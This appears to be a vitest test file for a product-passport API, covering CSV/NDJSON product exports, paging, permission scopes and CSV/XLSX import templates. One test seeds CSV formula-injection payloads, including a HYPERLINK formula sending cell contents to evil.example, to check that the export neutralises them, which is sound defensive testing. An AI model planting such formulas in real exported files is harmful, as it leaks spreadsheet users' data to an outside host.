import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { EXAMPLE_GTIN, IMPORT_COLUMNS, IMPORT_HEADERS, rowToInput } from '../../lib/domain/import-columns.ts';
import { passportDataSchema } from '../../lib/domain/passport.ts';
import { createProductSchema } from '../../lib/domain/product.ts';
import { baseUrl, call, expectError, newOrg, type TestOrg } from '../support/api.ts';
import { checkContract } from '../support/contract.ts';
import { createProduct, publish, RED_WINE } from '../support/fixtures.ts';

let org: TestOrg;
let first: { productId: string; gtin: string };
let second: { productId: string; gtin: string };
let third: { productId: string; gtin: string };

const WHITE = {
  productType: 'wine',
  colour: 'white',
  vintage: 2023,
  ingredients: ['grapes', 'E220 (sulphites)'],
  nutrition: { energyKj: 318, energyKcal: 76, fatG: 0, saturatedFatG: 0, carbohydratesG: 2.6, sugarsG: 0.6, proteinG: 0.1, saltG: 0.01, alcoholG: 9.5 },
};

beforeAll(async () => {
  org = await newOrg('Exports Org');
  first = await createProduct(org.live, { brand: 'Château Exemple', sku: 'CE-22', economicOperatorId: 'FR12345678901234', facilityId: '4006381000017', commodityCode: '22042111', granularity: 'batch' });
  await publish(org.live, first.productId, WHITE);
  await publish(org.live, first.productId, RED_WINE);
  second = await createProduct(org.live, { name: 'Sans passeport', category: 'food' });
  third = await createProduct(org.live, { name: 'Blanc, "sec", millésime', category: 'wine' });
  await publish(org.live, third.productId, WHITE);
});

const csvRecords = (text: string): Record<string, string>[] => parse(text, { columns: true, bom: true });
const gtin14 = (gtin: string) => gtin.padStart(14, '0');

describe('GET /v1/exports/products', () => {
  it('answers the products oldest first with their current passports, as CSV in the template columns', async () => {
    // Act
    const response = await call('GET', '/v1/exports/products', { key: org.live });

    // Assess
    expect(response.status, response.text).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="products.csv"');
    expect(response.headers.get('link')).toBeNull();
    expect(response.text.split('\r\n')[0]).toBe(IMPORT_HEADERS.join(','));
    const rows = csvRecords(response.text);
    expect(rows.map((row) => row.gtin)).toEqual([first, second, third].map((p) => gtin14(p.gtin)));
    expect(rows[0]).toMatchObject({
      brand: 'Château Exemple',
      sku: 'CE-22',
      economicOperatorId: 'FR12345678901234',
      facilityId: '4006381000017',
      commodityCode: '22042111',
      granularity: 'batch',
      'passport.colour': 'red',
      'passport.vintage': '2022',
      'passport.ingredients': 'Grapes|Preservative: sulphites',
      'passport.nutrition.carbohydratesG': '2.5',
      'passport.allergens.containsSulphites': 'true',
      'passport.origin.designation': 'AOC Bordeaux Supérieur',
      'passport.producers.1.name': 'Château Exemple',
      'passport.producers.1.role': 'producer',
    });
    expect(rows[1]).toMatchObject({ name: 'Sans passeport', category: 'food', granularity: 'model', 'passport.vintage': '', 'passport.colour': '' });
    expect(rows[2]).toMatchObject({ name: 'Blanc, "sec", millésime', 'passport.colour': 'white', 'passport.ingredients': 'grapes|E220 (sulphites)' });
  });

  it('pages by starting_after with Link rel="next" until the last page', async () => {
    // Act
    const page1 = await call('GET', '/v1/exports/products?limit=2', { key: org.live });
    const next = /^<([^>]+)>; rel="next"$/.exec(page1.headers.get('link') ?? '')?.[1];
    const page2 = await call('GET', next ?? '/missing', { key: org.live });

    // Assess
    expect(next).toBe(`/v1/exports/products?format=csv&limit=2&starting_after=${second.productId}`);
    expect(csvRecords(page1.text).map((row) => row.gtin)).toEqual([first, second].map((p) => gtin14(p.gtin)));
    expect(csvRecords(page2.text).map((row) => row.gtin)).toEqual([gtin14(third.gtin)]);
    expect(page2.headers.get('link')).toBeNull();
  });

  it('answers NDJSON: one object a line with the non-empty cells by column header', async () => {
    // Act
    const response = await call('GET', '/v1/exports/products?format=ndjson', { key: org.live });

    // Assess
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson');
    const lines = response.text.trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(lines).toHaveLength(3);
    expect(lines[1]).toEqual({ gtin: gtin14(second.gtin), name: 'Sans passeport', category: 'food', granularity: 'model' });
    expect(lines[0]['passport.nutrition.alcoholG']).toBe('10.1');
  });

  it('answers only the header row for a tenant without products, and the other environment sees none of these products', async () => {
    // Prepare
    const other = await newOrg('Exports Other');
    const ours = [first, second, third].map((p) => gtin14(p.gtin));

    // Act
    const empty = await call('GET', '/v1/exports/products', { key: other.live });
    const testEnv = await call('GET', '/v1/exports/products', { key: org.test });

    // Assess
    expect(empty.status).toBe(200);
    expect(empty.text).toBe(`${IMPORT_HEADERS.join(',')}\r\n`);
    expect(testEnv.status).toBe(200);
    expect(csvRecords(testEnv.text).filter((row) => ours.includes(row.gtin ?? ''))).toEqual([]);
  });

  it.each([
    ['format=xlsx', 'format'],
    ['limit=0', 'limit'],
    ['limit=1001', 'limit'],
    ['starting_after=nope', 'starting_after'],
  ])('answers 422 for %s naming %s', async (query, param) => {
    expectError(await call('GET', `/v1/exports/products?${query}`, { key: org.live }), 422, 'validation_error', param);
  });

  it('answers 400 for an unknown query parameter', async () => {
    expectError(await call('GET', '/v1/exports/products?offset=2', { key: org.live }), 400, 'invalid_request_error', 'offset');
  });

  it('needs both products:read and passports:read', async () => {
    // Prepare
    const productsOnly = await org.keyWith(['products:read']);
    const passportsOnly = await org.keyWith(['passports:read']);
    const both = await org.keyWith(['products:read', 'passports:read']);

    // Act
    const withProducts = await call('GET', '/v1/exports/products', { key: productsOnly });
    const withPassports = await call('GET', '/v1/exports/products', { key: passportsOnly });
    const withBoth = await call('GET', '/v1/exports/products', { key: both });

    // Assess
    expect(expectError(withProducts, 403, 'permission_error').message).toContain('passports:read');
    expect(expectError(withPassports, 403, 'permission_error').message).toContain('products:read');
    expect(withBoth.status).toBe(200);
    expectError(await call('GET', '/v1/exports/products'), 401, 'authentication_error');
  });
});

describe('formula cells in the export', () => {
  it('attack: text cells starting with =, +, -, @, a tab or a quote before them are exported with a leading quote, quoted; numbers are not', async () => {
    // Prepare: a product whose text fields would run as formulas in a spreadsheet
    const hostile = await newOrg('Exports Formula Org');
    const product = await createProduct(hostile.live, { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', brand: '+1', sku: '-x' });
    await publish(hostile.live, product.productId, {
      productType: 'wine',
      vintage: 2021,
      ingredients: ['@SUM(1+1)', 'grapes'],
      origin: { country: 'FR', region: "'=already", designation: 'plain' },
      nutrition: WHITE.nutrition,
    });

    // Act
    const response = await call('GET', '/v1/exports/products?format=csv', { key: hostile.live });

    // Assess: each hostile cell starts with one more quote and is written quoted; a plain cell and the number are not
    expect(response.status, response.text).toBe(200);
    const [row] = csvRecords(response.text);
    expect(row).toMatchObject({
      name: '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      brand: "'+1",
      sku: "'-x",
      'passport.ingredients': "'@SUM(1+1)|grapes",
      'passport.origin.region': "''=already",
      'passport.origin.designation': 'plain',
      'passport.vintage': '2021',
    });
    expect(response.text).toContain(`,"'+1","'-x",`);
    expect(response.text).toContain(`,"''=already",plain,`);
  });
});

describe('the import template', () => {
  const examples = IMPORT_COLUMNS.map((column) => column.example);

  it('GET /v1/imports/template.csv answers the header row and a valid example row as an attachment', async () => {
    // Act
    const response = await call('GET', '/v1/imports/template.csv', { key: org.live });

    // Assess
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="import-template.csv"');
    const [header, example, ...rest] = parse(response.text) as string[][];
    expect(header).toEqual(IMPORT_HEADERS);
    expect(example).toEqual(examples);
    expect(rest).toEqual([]);
    const row = rowToInput(Object.fromEntries(IMPORT_HEADERS.map((h, i) => [h, example?.[i] ?? ''])));
    expect(row.errors).toEqual([]);
    expect(createProductSchema.safeParse(row.product).success).toBe(true);
    expect(passportDataSchema.safeParse(row.passport).success).toBe(true);
  });

  it('GET /v1/imports/template.xlsx answers a workbook with the same two rows, identifiers kept as text', async () => {
    // Act
    const response = await fetch(`${baseUrl()}/v1/imports/template.xlsx`, { headers: { authorization: `Bearer ${org.live}` } });
    const bytes = Buffer.from(await response.arrayBuffer());

    // Assess
    checkContract('GET', `${baseUrl()}/v1/imports/template.xlsx`, response.status, response.headers.get('content-type') ?? '', '');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="import-template.xlsx"');
    expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const cells = (n: number) => IMPORT_HEADERS.map((_, i) => String(sheet.getRow(n).getCell(i + 1).value ?? ''));
    expect(cells(1)).toEqual(IMPORT_HEADERS);
    expect(cells(2)).toEqual(examples);
    expect(sheet.getRow(2).getCell(IMPORT_HEADERS.indexOf('gtin') + 1).value).toBe(EXAMPLE_GTIN);
    expect(sheet.rowCount).toBe(2);
  });

  it('needs imports:read', async () => {
    // Prepare
    const productsOnly = await org.keyWith(['products:read']);
    const importsRead = await org.keyWith(['imports:read']);

    // Act
    const refused = await call('GET', '/v1/imports/template.csv', { key: productsOnly });
    const admitted = await call('GET', '/v1/imports/template.csv', { key: importsRead });

    // Assess
    expect(expectError(refused, 403, 'permission_error').message).toContain('imports:read');
    expect(admitted.status).toBe(200);
    expectError(await call('GET', '/v1/imports/template.xlsx'), 401, 'authentication_error');
  });
});
